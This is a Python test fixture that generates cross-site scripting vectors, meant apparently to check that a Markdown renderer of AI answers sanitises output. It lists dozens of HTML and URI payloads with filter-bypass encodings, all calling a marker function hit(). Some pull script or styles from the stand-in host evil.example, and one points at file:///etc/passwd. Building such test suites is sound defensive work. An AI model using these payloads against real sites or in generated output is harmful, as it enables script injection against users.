"""What an attacker would write into an answer: hundreds of texts, each trying to run `hit()`."""

from collections.abc import Iterator
from html import escape
from urllib.parse import quote

HTML = [
    "<script>hit()</script>",
    "<ScRiPt>hit()</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>hit()</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<img src=x onerror=hit()>",
    '<img src="x" onerror="hit()">',
    "<img/src=x/onerror=hit()>",
    "<img src=x onerror\n=\nhit()>",
    "<image src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><a xlink:href=javascript:hit()><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload=hit()>></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.hit()</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=hit()></style></svg>",
    "<math><mi xlink:href=javascript:hit()>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext>",
    "<math><annotation-xml encoding=text/html><script>hit()</script></annotation-xml></math>",
    "<style>*{background:url(javascript:hit())}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<p style=position:fixed;inset:0 onmouseover=hit()>x</p>",
    "<body onload=hit()>",
    "<iframe src=javascript:hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=javascript:hit()>",
    "<form action=javascript:hit()><button>x</button></form>",
    "<button formaction=javascript:hit() form=x>x</button>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()></select>",
    "<textarea autofocus onfocus=hit()></textarea>",
    "<details open ontoggle=hit()>x</details>",
    "<video src=x onerror=hit()></video>",
    "<audio src=x onerror=hit()></audio>",
    "<marquee onstart=hit()>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<base href=https://evil.example/>",
    "<template><script>hit()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'></noscript>",
    "<xmp><img src=x onerror=hit()></xmp>",
    "<plaintext><script>hit()</script>",
    "<!--><script>hit()</script-->",
    "<!-- --!><script>hit()</script>",
    "<![CDATA[<script>hit()</script>]]>",
    "<?xml version='1.0'?><script>hit()</script>",
    "<a href=javascript:hit()>x</a>",
    "<a href='java\tscript:hit()'>x</a>",
    "<a href=x onclick=hit()>x</a>",
    "<div id=hit name=hit>x</div>",
    "</code></pre><script>hit()</script>",
    "</details></div></main><script>hit()</script>",
    "\"'><script>hit()</script>",
    "`'\"><img src=x onerror=hit()>",
    "<a\x0bhref=x\x0conclick=hit()>x</a>",
    "<\x00script>hit()</script>",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
]

ADDRESSES = [
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    "javascript&colon;hit()",
    "&#106;avascript:hit()",
    "&#x6A;avascript:hit()",
    "&#0000106avascript:hit()",
    "java&Tab;script:hit()",
    "java&NewLine;script:hit()",
    "java%0ascript:hit()",
    "java\\script:hit()",
    "\\javascript:hit()",
    "javascript\\:hit()",
    "&#1;javascript:hit()",
    "%20javascript:hit()",
    "javascript://evil.example/%0ahit()",
    "javascript:/*--></title></style></textarea></script><svg/onload=hit()>*/hit()",
    "vbscript:hit()",
    "livescript:hit()",
    "data:text/html,<script>opener.hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGl0KCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg/onload=hit()>",
    "data:text/javascript,hit()",
    "blob:https://evil.example/x",
    "file:///etc/passwd",
    "filesystem:https://evil.example/x",
    "view-source:javascript:hit()",
    "feed:javascript:hit()",
    "jar:javascript:hit()!/x",
    'https://evil.example/"onmouseover=hit()"',
    "https://evil.example/'onmouseover='hit()",
    "https://evil.example/><script>hit()</script>",
    "https://evil.example/`onmouseover=hit()`",
    '#" onclick="hit()',
    "?x=<script>hit()</script>",
]

# Where an address may stand.
LINKS = [
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "title")',
    '[x](https://a.example "{}")',
    "![x]({})",
    "[![x]({})]({})",
    "<{}>",
    "{}",
    "[x]: {}\n\n[x]",
    "[x]: <{}> 'title'\n\n[x][x]",
    "| [x]({}) |\n|-|\n| [x]({}) |",
]

# Where markup may stand.
PLACES = [
    "{}",
    "A {} b",
    "## {}",
    "> {}",
    "- {}",
    "`{}`",
    "**{}**",
    "[{}](https://a.example)",
    "![{}](https://a.example)",
    '[x](https://a.example "{}")',
    "| {} |\n|-|\n| {} |",
    "```{}\nx\n```",
    "```html\n{}\n```",
    "```python\n{}\n```",
    "    {}",
    "## Follow-ups\n\n- Why?\n\n  {}",
]


def vectors() -> Iterator[str]:
    """Yield each piece of markup in a few places and spellings, and each address in every link."""
    for index, markup in enumerate(HTML):
        places = [PLACES[0], *(PLACES[(index + step) % len(PLACES)] for step in (1, 6, 11))]
        for place in dict.fromkeys(places):
            yield place.replace("{}", markup)
        yield escape(markup)
        yield escape(escape(markup))
        yield "".join(f"&#{ord(letter)};" for letter in markup)
        yield "".join(f"\\{letter}" if letter in "<>()[]!`" else letter for letter in markup)
    for address in ADDRESSES:
        for link in LINKS:
            yield link.replace("{}", address)
        yield f"[x]({quote(address)})"
